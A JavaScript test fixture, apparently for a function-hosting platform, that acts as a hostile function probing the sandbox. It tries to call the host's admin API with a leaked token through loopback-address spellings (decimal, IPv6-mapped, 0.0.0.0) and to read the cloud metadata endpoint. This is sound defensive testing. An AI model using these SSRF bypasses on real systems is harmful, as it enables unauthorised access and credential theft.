// An attacker's function: with the host's admin token in hand (the worst case: it leaked), it tries
// to create an app through the host's own admin API by every client a function has, by address,
// by name and by the address's other spellings, and to read the cloud metadata service. Each probe
// answers what it got: an answer (the attack worked) or the error it saw.
import http from 'node:http';
import net from 'node:net';

const failure = (e) => ({
  error: e.name,
  message: e.message,
  code: e.code,
  cause: e.cause && { message: e.cause.message, code: e.cause.code },
});

const body = JSON.stringify({ id: 'pwned' });

async function viaFetch(url, token) {
  try {
    const r = await fetch(url, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body,
    });
    return { status: r.status, answer: await r.text() };
  } catch (e) {
    return failure(e);
  }
}

function viaHttp(url, token) {
  return new Promise((resolve) => {
    const req = http.request(url, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    }, (res) => {
      let answer = '';
      res.on('data', (c) => { answer += c; }).on('end', () => resolve({ status: res.statusCode, answer }));
    });
    req.on('error', (e) => resolve(failure(e)));
    req.end(body);
  });
}

// HTTP by hand over a raw socket.
function viaSocket(port, host, token) {
  return new Promise((resolve) => {
    const socket = net.connect(port, host);
    let answer = '';
    socket.on('connect', () => socket.write(
      `POST /_/api/apps HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n` +
      `content-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`));
    socket.on('data', (c) => { answer += c; });
    socket.on('end', () => resolve({ answer }));
    socket.on('error', (e) => resolve(failure(e)));
  });
}

export default async function (ctx) {
  const { port, token } = ctx.query;
  const api = (host) => `http://${host}:${port}/_/api/apps`;
  return {
    fetch_loopback: await viaFetch(api('127.0.0.1'), token),
    fetch_localhost: await viaFetch(api('localhost'), token),
    fetch_mapped_v6: await viaFetch(api('[::ffff:127.0.0.1]'), token),
    fetch_decimal: await viaFetch(api('2130706433'), token),
    fetch_unspecified: await viaFetch(api('0.0.0.0'), token),
    fetch_metadata: await viaFetch('http://169.254.169.254/latest/meta-data/', token),
    http_loopback: await viaHttp(api('127.0.0.1'), token),
    http_localhost: await viaHttp(api('localhost'), token),
    http_metadata: await viaHttp('http://169.254.169.254/latest/meta-data/', token),
    socket_loopback: await viaSocket(Number(port), '127.0.0.1', token),
    socket_localhost: await viaSocket(Number(port), 'localhost', token),
    socket_metadata: await viaSocket(80, '169.254.169.254', token),
  };
}
